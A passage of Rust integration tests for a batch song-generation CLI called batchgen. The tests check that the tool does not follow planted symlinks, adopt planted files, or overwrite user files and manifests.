        symlink(&victim, &link).unwrap();
        std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).is_ok()
    };
    if !plant("r.csv") {
        eprintln!("skipped: giving a link to another user needs root");
        return;
    }
    let results = shared.join("r.csv");
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(stderr(&out).contains("another user"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 0);
    assert_eq!(std::fs::read(&victim).unwrap(), b"");

    // The catalog's default name beside a results file in that folder.
    std::fs::remove_file(&results).unwrap();
    submit_ok(&sandbox, &manifest, &results).await;
    assert!(plant("r.catalog.csv"));
    let out = collect(&sandbox, &[arg(&results)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert_eq!(std::fs::read(&victim).unwrap(), b"");

    // The user's own link there is theirs: followed, the link kept.
    std::fs::remove_file(shared.join("r.catalog.csv")).unwrap();
    let mine = dir.path().join("mine.csv");
    symlink(&mine, shared.join("r.catalog.csv")).unwrap_or(());
    std::fs::write(&mine, "").unwrap();
    let out = collect(&sandbox, &[arg(&results)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(std::fs::read_to_string(&mine).unwrap().starts_with("key,"));
}

#[tokio::test(flavor = "multi_thread")]
async fn init_naming_the_csv_writes_the_toml_beside_it_not_into_it() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("x.csv");
    let out = run_with_env(vec!["init".into(), arg(&csv).into()], vec![]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let toml = std::fs::read_to_string(dir.path().join("x.toml")).unwrap();
    assert!(toml.starts_with('#'), "{toml}");
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.starts_with("id,"), "the CSV holds the CSV: {text}");
}

/// The clip ID in the batchgen tag of the MP3 at `path`.
fn tagged_clip(path: &Path) -> Option<String> {
    let tag = id3::Tag::read_from_path(path).ok()?;
    tag.extended_texts()
        .find(|t| t.description == "batchgen:clip_id")
        .map(|t| t.value.clone())
}

/// A file under a song's name that batchgen did not write for that clip
/// is neither taken for the song nor replaced: the song gets a name of
/// its own (its clip's suffix), the same on every run.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_planted_under_a_songs_name_is_not_taken_for_the_song() {
    let sandbox = quick_sandbox().await;
    let (dir, _manifest, results) = submitted(&sandbox).await;
    let songs = dir.path().join("songs");
    std::fs::create_dir_all(&songs).unwrap();
    let mp3 = songs.join("job-0-1.mp3");
    std::fs::write(&mp3, "planted, not audio").unwrap();
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&songs)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(std::fs::read(&mp3).unwrap(), b"planted, not audio");
    let (headers, rows) = catalog_rows(&dir.path().join("r.catalog.csv"));
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let first = rows.iter().find(|r| &r[col("clip_index")] == "1").unwrap();
    let file = PathBuf::from(&first[col("file")]);
    assert_ne!(file, mp3);
    assert!(file.starts_with(&songs), "{file:?}");
    assert_eq!(tagged_clip(&file).as_deref(), Some(&first[col("clip_id")]));
    assert!(!std::fs::read(songs.join("job-0-2.mp3")).unwrap().is_empty());
}

/// Two catalogs share a download folder (two manifests with the same ids,
/// or a job sent again into another results file): the second's songs take
/// names of their own, each tagged with its own clip ID, and the first's
/// files keep their bytes. The same folder reached by another name (a
/// symlink, as a bind mount would) is the same files: nothing is fetched
/// again.
#[tokio::test(flavor = "multi_thread")]
async fn songs_of_another_task_under_the_same_names_are_neither_adopted_nor_replaced() {
    let sandbox = quick_sandbox().await;
    let (dir, manifest, results) = submitted(&sandbox).await;
    let songs = dir.path().join("songs");
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&songs)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let firsts: Vec<(PathBuf, Vec<u8>)> = ["job-0-1.mp3", "job-0-2.mp3"]
        .iter()
        .map(|n| (songs.join(n), std::fs::read(songs.join(n)).unwrap()))
        .collect();

    let other = dir.path().join("other.csv");
    let out = run_checked(
        &sandbox,
        &[arg(&manifest), "--out", arg(&other), "--rate", "unlimited"],
    )
    .await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = collect(&sandbox, &[arg(&other), "--download", arg(&songs)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    for (path, bytes) in &firsts {
        assert_eq!(&std::fs::read(path).unwrap(), bytes, "{path:?} untouched");
    }
    let (headers, rows) = catalog_rows(&dir.path().join("other.catalog.csv"));
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(rows.len(), 2);
    for row in &rows {
        let file = PathBuf::from(&row[col("file")]);
        assert!(firsts.iter().all(|(p, _)| *p != file), "{file:?}");
        assert_eq!(tagged_clip(&file).as_deref(), Some(&row[col("clip_id")]));
    }

    let fetched = sandbox.stats().audio_fetches;
    let alias = dir.path().join("alias");
    symlink(&songs, &alias).unwrap();
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&alias)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        sandbox.stats().audio_fetches,
        fetched,
        "nothing fetched again"
    );
    for (path, bytes) in &firsts {
        assert_eq!(&std::fs::read(path).unwrap(), bytes, "{path:?} untouched");
    }
}

/// The reports batchgen writes (the catalog report, the page, the
/// playlist) replace only files of their own kind: a manifest named as
/// the catalog (directly or through a hard link), a playlist or a page of
/// the user's beside the catalog keep their bytes, and the message says
/// what to do without telling anyone to move their file away. An earlier
/// release's playlist (no mark, beside its page) is batchgen's.
#[tokio::test(flavor = "multi_thread")]
async fn reports_replace_only_files_of_their_own_kind() {
    let sandbox = quick_sandbox().await;
    let (dir, manifest, results) = submitted(&sandbox).await;
    let out = collect(&sandbox, &[arg(&results)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let page = dir.path().join("r.catalog.html");
    let playlist = dir.path().join("r.m3u8");
    assert!(page.is_file() && playlist.is_file());

    let kept = std::fs::read(&manifest).unwrap();
    let linked = dir.path().join("linked.csv");
    std::fs::hard_link(&manifest, &linked).unwrap();
    for named in [&manifest, &linked] {
        let out = collect(&sandbox, &[arg(&results), "--catalog", arg(named)]).await;
        assert_eq!(code(&out), 78, "{}", stderr(&out));
        assert_eq!(
            stderr(&out),
            format!(
                "batchgen: error: {}: not a batchgen catalog (its header lacks key, task_id, clip_index, status); \
                 batchgen leaves it untouched and fetched nothing. Name a file of its own with --catalog, \
                 or leave --catalog out for the one beside the results file\n",
                named.display()
            )
        );
        assert_eq!(std::fs::read(&manifest).unwrap(), kept);
    }

    let status = |html: bool| {
        let mut args = vec!["status".to_owned(), arg(&results).to_owned()];
        if html {
            args.push("--html".into());
        }
        run_with_env(args, vec![])
    };
    // An earlier release's playlist: replaced, with the mark.
    std::fs::write(&playlist, "#EXTM3U\n#EXTINF:1,old\nold.mp3\n").unwrap();
    let out = status(true).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = std::fs::read_to_string(&playlist).unwrap();
    assert!(text.starts_with(&format!("#EXTM3U\n{}\n", batchgen::files::playlist::MARK)));

    // The user's own playlist, with no page of batchgen's beside it.
    std::fs::remove_file(&page).unwrap();
    let mine = "#EXTM3U\n#EXTINF:200,Mine\n/music/mine.mp3\n";
    std::fs::write(&playlist, mine).unwrap();
    let out = status(true).await;
    assert_eq!(code(&out), 78, "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!(
            "{} is not a playlist batchgen wrote (it does not start with batchgen's mark, and no batchgen page is beside it), so it is left as it is",
            playlist.display()
        )),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&playlist).unwrap(), mine);
    assert!(!page.exists());

    // The user's own page under the page's name: the same.
    std::fs::remove_file(&playlist).unwrap();
    std::fs::write(&page, "<html>my notes</html>").unwrap();
    let out = status(true).await;
    assert_eq!(code(&out), 78, "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(&page).unwrap(),
        "<html>my notes</html>"
    );
    assert!(!playlist.exists());
}

/// `--out` naming the manifest, by its own name or another (a hard link):
/// refused as a usage error that says what it is and what to do, before
/// any file is made beside it and before any request.
#[tokio::test(flavor = "multi_thread")]
async fn out_naming_the_manifest_is_refused_before_anything_is_made() {
    let sandbox = quick_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let kept = std::fs::read(&manifest).unwrap();
    let linked = dir.path().join("linked.csv");
    std::fs::hard_link(&manifest, &linked).unwrap();
    for out in [&manifest, &linked] {
        let before: Vec<PathBuf> = files_in(dir.path());
        let run = run_checked(&sandbox, &[arg(&manifest), "--out", arg(out)]).await;
        assert_eq!(code(&run), 2, "{}", stderr(&run));
        assert_eq!(
            stderr(&run).lines().next().unwrap(),
            format!(
                "batchgen: error: the results file {} is the manifest ({}): the results are a file of their own; \
                 leave --out out (the results go to {}) or name another file",
                out.display(),
                manifest.display(),
                dir.path().join("jobs.results.csv").display()
            )
        );
        assert_eq!(files_in(dir.path()), before, "nothing made");
        assert_eq!(std::fs::read(&manifest).unwrap(), kept);
    }
    assert_eq!(sandbox.stats().requests, 0);
}
